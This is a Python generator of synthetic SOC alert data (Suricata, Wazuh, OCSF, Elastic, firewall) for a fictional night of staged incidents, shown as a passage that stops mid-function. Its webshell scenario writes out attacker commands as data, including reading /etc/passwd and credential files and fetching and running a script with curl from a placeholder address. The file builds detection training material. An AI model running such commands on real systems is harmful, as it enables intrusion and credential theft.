#!/usr/bin/env python3
"""Writes the sample alerts of one night: 2026-11-22 18:00 to 2026-11-23 03:30 UTC.

    python3 generate.py            write the five data files next to this script
    python3 generate.py --check    parse the written files and test the story

Python 3 standard library only.  The seed is fixed and no clock is read, so
two runs give the same bytes.  The story itself is told in README.md.

Layout: 1. the cast  2. one writer per format  3. the incidents
        4. the noise  5. files  6. the check
"""

import gzip
import hashlib
import io
import json
import os
import random
import sys
import uuid
from datetime import datetime, timedelta, timezone

HERE = os.path.dirname(os.path.abspath(__file__))
rng = random.Random(20261122)
UTC = timezone.utc
NIGHT_START = datetime(2026, 11, 22, 18, 0, 0, tzinfo=UTC)
NIGHT_END = datetime(2026, 11, 23, 3, 30, 0, tzinfo=UTC)

# --------------------------------------------------------------------------
# 1. the cast
# --------------------------------------------------------------------------

# host name -> (address, Wazuh agent id); the customer is the name's prefix
HOSTS = {
    "acme-gw-01":      ("10.11.0.1", None),
    "acme-web-01":     ("10.11.3.11", "011"),
    "acme-web-02":     ("10.11.3.12", "012"),
    "acme-web-03":     ("10.11.3.13", "013"),
    "acme-web-04":     ("10.11.3.14", "014"),
    "acme-mail-01":    ("10.11.2.25", "025"),
    "acme-db-01":      ("10.11.4.10", "030"),
    "acme-ws-017":     ("10.11.20.17", "117"),
    "globex-gw-01":    ("10.22.0.1", None),
    "globex-vpn-01":   ("10.22.1.5", "005"),
    "globex-db-01":    ("10.22.4.10", "010"),
    "globex-app-02":   ("10.22.5.12", "012"),
    "initech-gw-01":   ("10.33.0.1", None),
    "initech-git-01":  ("10.33.2.20", "020"),
    "initech-ci-02":   ("10.33.2.12", "012"),
    "initech-ws-101":  ("10.33.20.101", "101"),
}
WEB_ATTACKER = "203.0.113.45"      # incident 1
SSH_ATTACKER = "198.51.100.23"     # incident 2
CHEN_HOME = "198.51.100.140"       # incident 3, the usual place
CHEN_AWAY = "203.0.113.199"        # incident 3, the other country
C2_ADDR, C2_NAME = "192.0.2.77", "cdn-sync.example"   # incident 4
JNDI_ATTACKER = "198.51.100.77"    # incident 5
JNDI_LDAP = "198.51.100.78"        # incident 5, the callback's far end
OWN_SCANNER = "10.11.9.9"          # noise: acme's own scanner, change CR-118

MITRE = {   # id: (technique, tactic, tactic id)
    "T1046": ("Network Service Discovery", "Discovery", "TA0007"),
    "T1071.001": ("Web Protocols", "Command and Control", "TA0011"),
    "T1078": ("Valid Accounts", "Initial Access", "TA0001"),
    "T1105": ("Ingress Tool Transfer", "Command and Control", "TA0011"),
    "T1110": ("Brute Force", "Credential Access", "TA0006"),
    "T1110.001": ("Password Guessing", "Credential Access", "TA0006"),
    "T1136.001": ("Local Account", "Persistence", "TA0003"),
    "T1190": ("Exploit Public-Facing Application", "Initial Access", "TA0001"),
    "T1204.002": ("Malicious File", "Execution", "TA0002"),
    "T1498": ("Network Denial of Service", "Impact", "TA0040"),
    "T1505.003": ("Web Shell", "Persistence", "TA0003"),
    "T1530": ("Data from Cloud Storage", "Collection", "TA0009"),
    "T1548.003": ("Sudo and Sudo Caching", "Privilege Escalation", "TA0004"),
    "T1566.001": ("Spearphishing Attachment", "Initial Access", "TA0001"),
    "T1595.002": ("Vulnerability Scanning", "Reconnaissance", "TA0043"),
    "T1595.003": ("Wordlist Scanning", "Reconnaissance", "TA0043"),
    "T1621": ("Multi-Factor Authentication Request Generation",
              "Credential Access", "TA0006"),
}

EVE, WAZUH, OCSF, ELASTIC, FW = [], [], [], [], []   # lists of (time, record)


def at(clock, ms=0):
    """'21:06:52' -> that moment of the night; hours below 18 are the 23rd."""
    h, m, s = (int(x) for x in clock.split(":"))
    day = 22 if h >= 18 else 23
    return datetime(2026, 11, day, h, m, s, ms * 1000, tzinfo=UTC)


def spread(first, last, n, jitter=0.4):
    """n moments from first to last, evenly spaced but for some jitter."""
    a, b = at(first), at(last)
    step = (b - a) / max(n - 1, 1)
    out = []
    for i in range(n):
        t = a + step * i
        if 0 < i < n - 1:
            t += step * rng.uniform(-jitter, jitter)
        out.append(t + timedelta(microseconds=rng.randrange(1000, 999000)))
    return out


def ip(host):
    return HOSTS[host][0]


def cust(host):
    return host.split("-")[0]


def new_uuid():
    return str(uuid.UUID(int=rng.getrandbits(128), version=4))


def digests(text):
    """Hashes of a placeholder text: real shape, belongs to no real file."""
    raw = text.encode()
    return (hashlib.md5(raw).hexdigest(), hashlib.sha1(raw).hexdigest(),
            hashlib.sha256(raw).hexdigest())


WEBSHELL_HASHES = digests("watchfloor sample data: stands for a.jsp")

# --------------------------------------------------------------------------
# 2. one writer per format
# --------------------------------------------------------------------------

# ---- Suricata EVE ----

SIGS = {  # sid: (signature, category, severity 1 high .. 4, [mitre], extra metadata)
    1001001: ("WF SCAN Web content discovery, many 404 from one source",
              "Attempted Information Leak", 2, ["T1595.003"], {}),
    1001010: ("WF WEB_SERVER JSP file posted to upload servlet",
              "Web Application Attack", 1, ["T1190"], {"signature_severity": ["Major"]}),
    1001011: ("WF WEB_SERVER Webshell request, cmd parameter to JSP in upload folder",
              "A Network Trojan was detected", 1, ["T1505.003"],
              {"signature_severity": ["Critical"]}),
    1001012: ("WF ATTACK_RESPONSE Output of id command in HTTP response",
              "Successful Administrator Privilege Gain", 1, ["T1505.003"],
              {"signature_severity": ["Critical"]}),
    1001013: ("WF POLICY Web server fetches a script from an outside address",
              "Potentially Bad Traffic", 2, ["T1105"], {"signature_severity": ["Major"]}),
    1001020: ("WF SCAN SSH brute force, many new sessions from one source",
              "Attempted Administrator Privilege Gain", 2, ["T1110"], {}),
    1001030: ("WF MALWARE Beacon, HTTP POST of fixed size to " + C2_NAME,
              "Malware Command and Control Activity Detected", 1, ["T1071.001"],
              {"signature_severity": ["Major"]}),
    1001031: ("WF MALWARE DNS query for listed domain " + C2_NAME,
              "Malware Command and Control Activity Detected", 2, ["T1071.001"], {}),
    1001040: ("WF EXPLOIT JNDI lookup string in HTTP header (ldap)",
              "Attempted Administrator Privilege Gain", 1, ["T1190"],
              {"signature_severity": ["Major"], "cve": ["CVE_2021_44228"]}),
    1001041: ("WF EXPLOIT Outbound LDAP bind after JNDI lookup, exploit succeeded",
              "Successful Administrator Privilege Gain", 1, ["T1190"],
              {"signature_severity": ["Critical"], "attack_target": ["Server"]}),
    1002001: ("WF SCAN Inbound probe to Telnet port", "Misc activity", 3, [], {}),
    1002002: ("WF SCAN Inbound probe to Remote Desktop port", "Misc activity", 3, [], {}),
    1002003: ("WF SCAN SIP OPTIONS probe", "Misc activity", 3, [], {}),
    1003001: ("WF POLICY curl user agent outbound", "Not Suspicious Traffic", 4, [], {}),
    1003003: ("WF INFO Self-signed certificate in TLS session",
              "Generic Protocol Command Decode", 3, [], {"signature_severity": ["Informational"]}),
    1003004: ("WF POLICY DNS query for a dynamic DNS name",
              "Potential Corporate Privacy Violation", 3, [], {}),
    1003005: ("SURICATA STREAM Packet with invalid ack",
              "Generic Protocol Command Decode", 3, [], {}),
    1004001: ("WF SCAN Vulnerability scanner user agent", "Web Application Attack", 2,
              ["T1595.002"], {}),
    1004002: ("WF WEB_SERVER SQL injection attempt, UNION SELECT in URI",
              "Web Application Attack", 1, ["T1190"], {}),
    1005001: ("WF DOS SYN burst above threshold", "Attempted Denial of Service", 2,
              ["T1498"], {}),
    1006001: ("WF PHISHING Mass mail with macro document", "Potentially Bad Traffic", 2,
              ["T1566.001"], {}),
    1009001: ("WF WEB_SERVER Control bytes in request", "Web Application Attack", 2, [], {}),
}
UA_FIREFOX = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"


def stamp(t, digits=6):
    """2026-11-22T18:03:11.123456+0000 (Suricata; Wazuh uses three digits)"""
    fraction = "%06d" % t.microsecond
    return t.strftime("%Y-%m-%dT%H:%M:%S.") + fraction[:digits] + "+0000"


def flow_id():
    """Every third one does not fit in a double (2^53 and above)."""
    return rng.randrange(2**53, 2**61) if rng.random() < 0.34 \
        else rng.randrange(10**14, 2**51)


def http(host, url, method="GET", status=200, ua=UA_FIREFOX, length=None, **more):
    h = {"hostname": host, "url": url, "http_user_agent": ua,
         "http_content_type": "text/html", "http_method": method,
         "protocol": "HTTP/1.1", "status": status,
         "length": rng.randrange(180, 5200) if length is None else length}
    h.update(more)
    return h


def eve_base(t, event_type, host, src, sport, dst, dport, proto, fid):
    return {"timestamp": stamp(t), "flow_id": fid, "in_iface": "ens19",
            "event_type": event_type, "src_ip": src, "src_port": sport,
            "dest_ip": dst, "dest_port": dport, "proto": proto, "host": host}


def eve(t, sid, host, src, dst, dport, proto="TCP", sport=None, app=None,
        action="allowed", fid=None, signature=None, to_client=False, **more):
    """One event_type "alert" line; `more` are objects such as http= or dns=.

    With to_client the packet is a server's answer: src is then the server,
    while the flow object keeps naming the client first, as Suricata does.
    """
    name, category, severity, mitre, extra = SIGS[sid]
    sport = sport or rng.randrange(32768, 60999)
    fid = fid or flow_id()
    r = eve_base(t, "alert", host, src, sport, dst, dport, proto, fid)
    r["pkt_src"] = "wire/pcap"
    if app in ("http", "dns", "smtp"):
        r["tx_id"] = 0
    alert = {"action": action, "gid": 1, "signature_id": sid, "rev": 1 + sid % 3,
             "signature": signature or name, "category": category, "severity": severity}
    meta = {"created_at": ["2026_03_02"], "updated_at": ["2026_10_19"], **extra}
    if mitre:
        meta["mitre_technique_id"] = list(mitre)
        meta["mitre_technique_name"] = [MITRE[m][0].replace(" ", "_") for m in mitre]
        meta["mitre_tactic_id"] = [MITRE[m][2] for m in mitre]
        meta["mitre_tactic_name"] = [MITRE[m][1].replace(" ", "_") for m in mitre]
    alert["metadata"] = meta
    r["alert"] = alert
    r.update(more)
    if app:
        r["app_proto"] = app
    r["direction"] = "to_client" if to_client else "to_server"
    start = t - timedelta(milliseconds=rng.randrange(3, 900))
    r["flow"] = {"pkts_toserver": rng.randrange(3, 20), "pkts_toclient": rng.randrange(2, 20),
                 "bytes_toserver": rng.randrange(300, 4000),
                 "bytes_toclient": rng.randrange(200, 9000), "start": stamp(start)}
    ends = (dst, dport, src, sport) if to_client else (src, sport, dst, dport)
    r["flow"].update(zip(("src_ip", "src_port", "dest_ip", "dest_port"), ends))
    EVE.append((t, r))
    return fid, sport


def eve_http_context(t, host, src, sport, dst, dport, fid, h):
    r = eve_base(t, "http", host, src, sport, dst, dport, "TCP", fid)
    r.update(tx_id=0, http=h)
    EVE.append((t, r))


def eve_dns_context(t, host, src, name, answer):
    fid, sport = flow_id(), rng.randrange(32768, 60999)
    resolver = ".".join(src.split(".")[:2]) + ".0.53"
    q = eve_base(t, "dns", host, src, sport, resolver, 53, "UDP", fid)
    q["dns"] = {"type": "query", "id": rng.randrange(65536), "rrname": name,
                "rrtype": "A", "tx_id": 0, "opcode": 0}
    EVE.append((t, q))
    t2 = t + timedelta(milliseconds=rng.randrange(4, 60))
    a = eve_base(t2, "dns", host, src, sport, resolver, 53, "UDP", fid)
    a["dns"] = {"version": 2, "type": "answer", "id": q["dns"]["id"], "flags": "8180",
                "qr": True, "rd": True, "ra": True, "opcode": 0, "rrname": name,
                "rrtype": "A", "rcode": "NOERROR",
                "answers": [{"rrname": name, "rrtype": "A", "ttl": 60, "rdata": answer}],
                "grouped": {"A": [answer]}}
    EVE.append((t2, a))


def eve_flow_context(t, host, src, sport, dst, dport, fid, seconds, up, down, app):
    r = eve_base(t, "flow", host, src, sport, dst, dport, "TCP", fid)
    r["app_proto"] = app
    r["flow"] = {"pkts_toserver": max(4, up // 700), "pkts_toclient": max(3, down // 900),
                 "bytes_toserver": up, "bytes_toclient": down,
                 "start": stamp(t - timedelta(seconds=seconds)), "end": stamp(t),
                 "age": seconds, "state": "closed", "reason": "timeout", "alerted": True}
    r["tcp"] = {"tcp_flags": "1b", "syn": True, "fin": True, "psh": True, "ack": True,
                "state": "closed"}
    EVE.append((t, r))


# ---- Wazuh 4 alerts.json ----

WAZUH_RULES = {  # id: (level, description, groups, [mitre])
    "5402": (3, "Successful sudo to ROOT executed.", ["syslog", "sudo"], ["T1548.003"]),
    "550": (7, "Integrity checksum changed.",
            ["ossec", "syscheck", "syscheck_entry_modified", "syscheck_file"], []),
    "554": (5, "File added to the system.",
            ["ossec", "syscheck", "syscheck_entry_added", "syscheck_file"], []),
    "5760": (5, "sshd: authentication failed.",
             ["syslog", "sshd", "authentication_failed"], ["T1110.001"]),
    "5763": (10, "sshd: brute force trying to get access to the system. Authentication failed.",
             ["syslog", "sshd", "authentication_failures"], ["T1110"]),
    "5902": (8, "New user added to the system.", ["syslog", "adduser"], ["T1136.001"]),
    "19007": (7, "CIS benchmark: Ensure minimum password length is 14 or more.", ["sca"], []),
    "31101": (5, "Web server 400 error code.", ["web", "accesslog", "attack"], []),
    "31151": (10, "Multiple web server 400 error codes from same source ip.",
              ["web", "accesslog", "web_scan", "recon"], ["T1595.002"]),
    "40112": (12, "Multiple authentication failures followed by a success.",
              ["syslog", "attacks", "authentication_success"], ["T1078", "T1110"]),
    "50106": (9, "MySQL: authentication failure.", ["mysql_log", "authentication_failed"], ["T1110"]),
    "60122": (5, "Logon failure - Unknown user or bad password.",
              ["windows", "windows_security", "authentication_failed"], ["T1078"]),
    "60204": (10, "Multiple Windows logon failures.",
              ["windows", "windows_security", "authentication_failures"], ["T1110"]),
    # local rules
    "100510": (15, "Webshell: script file written by the web server account in an upload folder.",
               ["local", "syscheck", "webshell"], ["T1505.003"]),
    "100520": (13, "sshd: root login from outside the customer network.",
               ["local", "sshd", "authentication_success"], ["T1078"]),
    "100530": (12, "VPN: same user logged in from two countries within one hour.",
               ["local", "vpn", "authentication_success"], ["T1078"]),
    "100531": (6, "VPN: second factor refused by the user.",
               ["local", "vpn", "authentication_failed"], ["T1621"]),
    "100540": (12, "Resolver: name on the threat list was asked for.",
               ["local", "dns", "threat_list"], ["T1071.001"]),
    "100550": (10, "Web access log: JNDI lookup string in a request header.",
               ["local", "web", "attack"], ["T1190"]),
    "100551": (14, "Java service opened an LDAP session to an outside address.",
               ["local", "audit", "exploit_success"], ["T1190"]),
    "100560": (4, "Mail gateway: phishing message rejected.", ["local", "mail", "phishing"],
               ["T1566.001"]),
}


def wazuh(t, rule, host, full_log, decoder, location, data=None, frequency=None, **more):
    level, desc, groups, mitre = WAZUH_RULES[rule]
    r = {"timestamp": stamp(t, 3), "rule": {"level": level, "description": desc, "id": rule}}
    if mitre:
        r["rule"]["mitre"] = {"id": mitre, "tactic": sorted({MITRE[m][1] for m in mitre}),
                              "technique": [MITRE[m][0] for m in mitre]}
    if frequency:
        r["rule"]["frequency"] = frequency
    r["rule"].update(firedtimes=0, mail=level >= 12, groups=groups)
    if "authentication_failed" in groups or "authentication_failures" in groups:
        r["rule"].update(pci_dss=["10.2.4", "10.2.5"], gdpr=["IV_35.7.d", "IV_32.2"])
    r["agent"] = {"id": HOSTS[host][1], "name": host, "ip": ip(host)}
    r["manager"] = {"name": "wazuh-" + cust(host)}
    r["id"] = "%d.0" % int(t.timestamp())    # renumber() completes it, and firedtimes
    r.update(more)
    r["full_log"] = full_log
    if decoder == "sshd":
        r["predecoder"] = {"program_name": "sshd", "timestamp": t.strftime("%b %d %H:%M:%S"),
                           "hostname": host}
        r["decoder"] = {"parent": "sshd", "name": "sshd"}
    else:
        r["decoder"] = {"name": decoder}
    if data:
        r["data"] = data
    r["location"] = location
    WAZUH.append((t, r))


def wazuh_file(t, rule, host, path, owner, hashes, size, event="added"):
    md5, sha1, sha256 = hashes
    sc = {"path": path, "mode": "realtime", "size_after": str(size), "perm_after": "rw-r-----",
          "uid_after": "998", "gid_after": "998", "md5_after": md5, "sha1_after": sha1,
          "sha256_after": sha256, "uname_after": owner, "gname_after": owner,
          "mtime_after": t.strftime("%Y-%m-%dT%H:%M:%S"), "inode_after": rng.randrange(10**5, 10**7),
          "event": event}
    if event == "modified":
        sc.update(size_before=str(size - 41), changed_attributes=["size", "mtime", "md5", "sha1", "sha256"])
    wazuh(t, rule, host, "File '%s' %s\nMode: realtime\n" % (path, event),
          "syscheck_new_entry" if event == "added" else "syscheck_integrity_changed",
          "syscheck", syscheck=sc)


def wazuh_access(t, rule, host, src, request, status, ua, frequency=None):
    line = '%s - - [%s] "%s HTTP/1.1" %d %d "-" "%s"' % (
        src, t.strftime("%d/%b/%Y:%H:%M:%S +0000"), request, status, rng.randrange(150, 900), ua)
    method, url = request.split(" ", 1)
    wazuh(t, rule, host, line, "web-accesslog", "/var/log/nginx/access.log",
          {"protocol": method, "srcip": src, "id": str(status), "url": url}, frequency)


# ---- OCSF ----

EDR = {"name": "磐守主机安全", "vendor_name": "磐守科技", "version": "5.2.1"}
POSTURE = {"name": "CloudLint", "vendor_name": "CloudLint", "version": "3.9.0"}
SEV_NAME = {1: "Informational", 2: "Low", 3: "Medium", 4: "High", 5: "Critical"}


def ms(t):
    return int(t.timestamp()) * 1000 + t.microsecond // 1000


def ocsf(t, host, title, desc, sev, rule, types, mitre=(), evidence=None, product=EDR,
         version="1.1.0", status="New", **more):
    r = {"activity_id": 1, "activity_name": "Create", "category_uid": 2,
         "category_name": "Findings", "class_uid": 2004, "class_name": "Detection Finding",
         "type_uid": 200401, "type_name": "Detection Finding: Create",
         "time": ms(t), "time_dt": t.strftime("%Y-%m-%dT%H:%M:%S.") + "%03dZ" % (t.microsecond // 1000),
         "severity_id": sev, "severity": SEV_NAME[sev], "status_id": 1, "status": status,
         "message": desc,
         "metadata": {"version": version, "product": product, "uid": new_uuid(),
                      "tenant_uid": cust(host), "profiles": ["host", "datetime"]},
         "finding_info": {"uid": new_uuid(), "title": title, "desc": desc,
                          "created_time": ms(t), "types": list(types),
                          "analytic": {"type_id": 1, "type": "Rule", "uid": rule, "name": title}}}
    if mitre:
        r["finding_info"]["attacks"] = [attack_object(m) for m in mitre]
    if evidence:
        r["evidences"] = [evidence]
    if host in HOSTS:
        r["device"] = {"hostname": host, "ip": ip(host), "type_id": 1, "type": "Server"}
        r["resources"] = [{"name": host, "type": "Host", "uid": host}]
    r.update(more)
    OCSF.append((t, r))
    return r


def attack_object(m):
    technique, tactic, tactic_id = MITRE[m]
    a = {"version": "14.1", "tactic": {"uid": tactic_id, "name": tactic}}
    if "." in m:
        a["technique"] = {"uid": m.split(".")[0]}
        a["sub_technique"] = {"uid": m, "name": technique}
    else:
        a["technique"] = {"uid": m, "name": technique}
    return a


def ocsf_2001(t, host, title, desc, sev, rule):
    """The deprecated Security Finding: `finding` in place of `finding_info`."""
    OCSF.append((t, {
        "activity_id": 1, "activity_name": "Create", "category_uid": 2,
        "category_name": "Findings", "class_uid": 2001, "class_name": "Security Finding",
        "type_uid": 200101, "type_name": "Security Finding: Create", "time": ms(t),
        "severity_id": sev, "severity": SEV_NAME[sev], "state_id": 1, "state": "New",
        "message": desc,
        "metadata": {"version": "1.0.0", "product": {"name": "LegacyAV", "vendor_name": "LegacyAV"},
                     "tenant_uid": cust(host)},
        "finding": {"uid": new_uuid(), "title": title, "desc": desc, "created_time": ms(t),
                    "types": ["Malware"]},
        "analytic": {"type_id": 1, "type": "Rule", "uid": rule, "name": title},
        "resources": [{"name": host, "type": "Host", "uid": host}]}))


def posture(t, c, resource, rtype, title, sev, code, status_code="FAIL"):
    ocsf(t, resource, title, "%s: %s" % (resource, title), sev, code, ["Cloud Posture"],
         product=POSTURE, version="1.3.0", status_code=status_code,
         status_detail="%s is %s" % (resource, "compliant" if status_code == "PASS" else "not compliant"),
         cloud={"provider": "examplecloud", "region": "ap-example-1",
                "account": {"uid": {"acme": "100000000011", "globex": "100000000022",
                                    "initech": "100000000033"}[c]}},
         resources=[{"name": resource, "type": rtype, "uid": "res:%s:%s" % (c, resource)}])


# ---- Elastic detection alerts ----

RISK = {"low": 21, "medium": 47, "high": 73, "critical": 99}
_elastic_rules = {}


def elastic(t, name, host, severity, mitre, reason_event, ecs, reason_tail="", suppressed=None,
            building_block=False, category=("process",), alert_uuid=None, lag=None):
    if name not in _elastic_rules:
        _elastic_rules[name] = (new_uuid(), new_uuid())
    rule_id, rule_uuid = _elastic_rules[name]
    made = t + timedelta(seconds=lag if lag is not None else rng.randrange(20, 290))
    iso = lambda x: x.strftime("%Y-%m-%dT%H:%M:%S.") + "%03dZ" % (x.microsecond // 1000)
    threat = []
    for m in mitre:
        technique, tactic, tactic_id = MITRE[m]
        tech = {"id": m.split(".")[0], "name": technique,
                "reference": "https://attack.mitre.org/techniques/%s/" % m.split(".")[0]}
        if "." in m:
            tech["subtechnique"] = [{"id": m, "name": technique, "reference":
                                     "https://attack.mitre.org/techniques/%s/" % m.replace(".", "/")}]
        threat.append({"framework": "MITRE ATT&CK",
                       "tactic": {"id": tactic_id, "name": tactic,
                                  "reference": "https://attack.mitre.org/tactics/%s/" % tactic_id},
                       "technique": [tech]})
    r = {"@timestamp": iso(made), "event": {"category": list(category), "kind": "event",
                                            "ingested": iso(t + timedelta(seconds=4))},
         "host": {"name": host, "hostname": host, "ip": [ip(host)],
                  "os": {"type": "linux", "platform": "debian"}},
         "agent": {"type": "endpoint", "version": "8.15.2", "name": host},
         "ecs": {"version": "8.11.0"}}
    if "-ws-" in host:
        r["host"]["os"] = {"type": "windows", "platform": "windows"}
    r.update(ecs)
    index = ".ds-logs-endpoint.events.%s-%s-2026.11.20-000007" % (category[0], cust(host))
    r.update({
        "event.kind": "signal",
        "kibana.alert.ancestors": [{"id": hashlib.sha1(iso(t).encode()).hexdigest()[:20],
                                    "type": "event", "index": index, "depth": 0}],
        "kibana.alert.depth": 1,
        "kibana.alert.original_time": iso(t),
        "kibana.alert.original_event.category": list(category),
        "kibana.alert.original_event.kind": "event",
        "kibana.alert.reason": "%s on %s%s created %s alert %s." %
                               (reason_event, host, reason_tail, severity, name),
        "kibana.alert.risk_score": RISK[severity],
        "kibana.alert.severity": severity,
        "kibana.alert.status": "active",
        "kibana.alert.workflow_status": "open",
        "kibana.alert.uuid": alert_uuid or hashlib.sha256((name + host + iso(t)).encode()).hexdigest(),
        "kibana.alert.rule.category": "Custom Query Rule",
        "kibana.alert.rule.consumer": "siem",
        "kibana.alert.rule.producer": "siem",
        "kibana.alert.rule.rule_type_id": "siem.queryRule",
        "kibana.alert.rule.name": name,
        "kibana.alert.rule.rule_id": rule_id,
        "kibana.alert.rule.uuid": rule_uuid,
        "kibana.alert.rule.type": "query",
        "kibana.alert.rule.version": 3,
        "kibana.alert.rule.enabled": True,
        "kibana.alert.rule.tags": ["MDR", cust(host)],
        "kibana.alert.rule.threat": threat,
        "kibana.space_ids": [cust(host)],
        "kibana.version": "8.15.2"})
    if suppressed is not None:
        r["kibana.alert.suppression.docs_count"] = suppressed
        r["kibana.alert.suppression.terms"] = [{"field": "host.name", "value": [host]}]
        r["kibana.alert.suppression.start"] = iso(t)
        r["kibana.alert.suppression.end"] = iso(made)
    if building_block:
        r["kibana.alert.building_block_type"] = "default"
    ELASTIC.append((made, r))
    return r["kibana.alert.uuid"]


def process(exe, cmdline, parent, user, pid=None):
    return {"process": {"pid": pid or rng.randrange(900, 60000), "name": exe.replace("\\", "/").split("/")[-1],
                        "executable": exe, "command_line": cmdline, "args": cmdline.split(" "),
                        "hash": {"sha256": digests(exe)[2]},
                        "parent": {"name": parent.replace("\\", "/").split("/")[-1], "executable": parent}},
            "user": {"name": user}}


# ---- the home-grown edge firewall ----

def fw(t, host, evt, sig, lvl, src, dst, hits, acct="-"):
    """`ts` is local time +08:00 and does not say so; `hits` = events merged."""
    FW.append((t, {"ts": (t + timedelta(hours=8)).strftime("%Y-%m-%d %H:%M:%S"),
                   "id": "",        # see renumber()
                   "evt": evt, "sig": sig, "lvl": lvl,
                   "saddr": src, "daddr": dst, "host": host, "acct": acct, "hits": hits}))


# --------------------------------------------------------------------------
# 3. the incidents
# --------------------------------------------------------------------------

def incident_1_webshell():
    """acme-web-03: scan 20:41, upload exploit 21:04-21:06, webshell used until 21:31."""
    host, me, site = "acme-web-03", ip("acme-web-03"), "parts.acme.example"
    words = ["/admin/", "/backup.zip", "/.git/config", "/manager/html", "/uploads/", "/test.jsp",
             "/old/", "/console/", "/api/v1/", "/WEB-INF/web.xml", "/upload/", "/login.jsp"]
    ua = "Mozilla/5.0 (compatible; fuzz/2.1)"
    for i, t in enumerate(spread("20:41:07", "21:02:30", 24)):
        eve(t, 1001001, host, WEB_ATTACKER, me, 80, app="http",
            http=http(site, words[i % len(words)], status=404, ua=ua, length=153))
    for i, t in enumerate(spread("20:43:00", "20:55:00", 4)):
        eve(t, 1001001, "acme-web-04", WEB_ATTACKER, ip("acme-web-04"), 80, app="http",
            http=http("shop.acme.example", words[i], status=404, ua=ua, length=153))
    for i, t in enumerate(spread("20:41:12", "21:01:50", 10)):
        wazuh_access(t, "31101", host, WEB_ATTACKER, "GET " + words[i], 404, ua)
    for t in spread("20:46:00", "21:02:00", 3):
        wazuh_access(t, "31151", host, WEB_ATTACKER, "GET /admin/", 404, ua, frequency=14)
    fw(at("20:52:10"), "acme-gw-01", "web", "WEB-404-RATE", "low", WEB_ATTACKER, me, 412)

    # the upload servlet: refused, server error, accepted
    for clock, status in (("21:04:10", 403), ("21:05:02", 500), ("21:06:52", 200)):
        fid, sport = eve(at(clock, 310), 1001010, host, WEB_ATTACKER, me, 80, app="http",
                         http=http(site, "/upload.jsp", "POST", status, UA_FIREFOX, 61),
                         files=[{"filename": "a.jsp", "gaps": False, "state": "CLOSED",
                                 "stored": False, "size": 727, "tx_id": 0,
                                 "sha256": WEBSHELL_HASHES[2]}])
        eve_http_context(at(clock, 312), host, WEB_ATTACKER, sport, me, 80, fid,
                         http(site, "/upload.jsp", "POST", status, UA_FIREFOX, 61))
    path = "/opt/tomcat/webapps/ROOT/upload/a.jsp"
    # one event gives one Wazuh alert, that of the most specific rule: 554 is the
    # servlet's temporary copy, 100510 (a child of 554) the script itself
    wazuh_file(at("21:06:52", 918), "554", host, "/opt/tomcat/work/upload/mp_7f31.tmp", "tomcat",
               WEBSHELL_HASHES, 727)
    wazuh_file(at("21:06:53", 121), "100510", host, path, "tomcat", WEBSHELL_HASHES, 727)
    shell_file = {"name": "a.jsp", "path": path, "type_id": 1, "size": 727,
                  "hashes": [{"algorithm_id": 3, "algorithm": "SHA-256", "value": WEBSHELL_HASHES[2]},
                             {"algorithm_id": 1, "algorithm": "MD5", "value": WEBSHELL_HASHES[0]}]}
    ocsf(at("21:06:58", 400), host, "发现Webshell写入", "Web 目录出现可疑脚本 " + path, 5,
         "PS-WEBSHELL-001", ["Webshell"], ["T1505.003", "T1190"],
         {"file": shell_file, "src_endpoint": {"ip": WEB_ATTACKER},
          "process": {"name": "java", "pid": 1433, "cmd_line": "/usr/bin/java -jar bootstrap.jar start",
                      "user": {"name": "tomcat"}}})

    # commands through the webshell
    commands = ["id", "whoami", "uname%20-a", "hostname", "cat%20/etc/passwd", "ls%20-la%20/opt/tomcat",
                "ps%20aux", "netstat%20-ant", "ip%20addr", "cat%20conf/db.properties", "df%20-h",
                "curl%20-O%20http://203.0.113.45:8080/t.sh", "sh%20t.sh", "id"]
    for i, t in enumerate(spread("21:07:20", "21:31:04", len(commands), 0.3)):
        h = http(site, "/upload/a.jsp?cmd=" + commands[i], status=200)
        fid, sport = eve(t, 1001011, host, WEB_ATTACKER, me, 80, app="http", http=h)
        if commands[i] == "id":
            eve(t + timedelta(milliseconds=40), 1001012, host, me, WEB_ATTACKER, sport, sport=80,
                app="http", fid=fid, to_client=True, http=h)
        plain = commands[i].replace("%20", " ")
        if i % 2 == 0:
            elastic(t + timedelta(milliseconds=60), "Web Server Process Started a Shell", host, "critical",
                    ["T1505.003"], "process event with process sh, parent process java, by tomcat",
                    process("/bin/sh", "sh -c " + plain, "/usr/lib/jvm/java-11/bin/java", "tomcat"))
        if plain.startswith("curl"):
            for gap in (1, 14):         # curl tries twice, the edge blocks both
                t2 = t + timedelta(seconds=gap)
                eve(t2, 1001013, host, me, WEB_ATTACKER, 8080, app="http", action="blocked",
                    http=http("203.0.113.45", "/t.sh", status=0, ua="curl/7.88.1", length=0))
                fw(t2, "acme-gw-01", "drop", "OUT-NEW-DEST", "mid", me, WEB_ATTACKER, 3)
        if i in (0, 4, 9, 12):
            ocsf(t + timedelta(seconds=3), host, "Web进程执行可疑命令", "java 进程派生 sh: " + plain, 4,
                 "PS-WEBCMD-002", ["Execution"], ["T1505.003"],
                 {"process": {"name": "sh", "pid": rng.randrange(2000, 60000), "cmd_line": "sh -c " + plain,
                              "user": {"name": "tomcat"},
                              "parent_process": {"name": "java", "pid": 1433}},
                  "src_endpoint": {"ip": WEB_ATTACKER}})
    eve_flow_context(at("21:32:10", 5), host, WEB_ATTACKER, 48112, me, 80, flow_id(), 1490, 18211, 90433, "http")
    # the credentials in db.properties are old: the database refuses them
    for t in spread("21:28:10", "21:30:40", 6):
        wazuh(t, "50106", "acme-db-01", "%s 91 [Note] Access denied for user 'parts'@'%s' (using password: YES)"
              % (t.strftime("%Y-%m-%dT%H:%M:%S"), me), "mysql_log", "/var/log/mysql/error.log",
              {"srcip": me, "srcuser": "parts"})


def incident_2_bruteforce():
    """globex-db-01: root guessed over SSH 22:12-22:58, success 22:58:47."""
    host, me = "globex-db-01", ip("globex-db-01")

    def failed(t, port):
        # three tries per session; sshd folds the last two into one line
        return ("%s %s sshd[%d]: message repeated 2 times: [ Failed password for root from %s port %d ssh2]"
                % (t.strftime("%b %d %H:%M:%S"), host, rng.randrange(20000, 32000), SSH_ATTACKER, port))

    recent = []
    for i, t in enumerate(spread("22:12:05", "22:58:39", 104)):
        port = rng.randrange(32768, 60999)
        line = failed(t, port)
        recent = ([line] + recent)[:7]
        data = {"srcip": SSH_ATTACKER, "srcport": str(port), "dstuser": "root"}
        if i % 8 == 7:     # every eighth becomes the composite rule, as Wazuh does
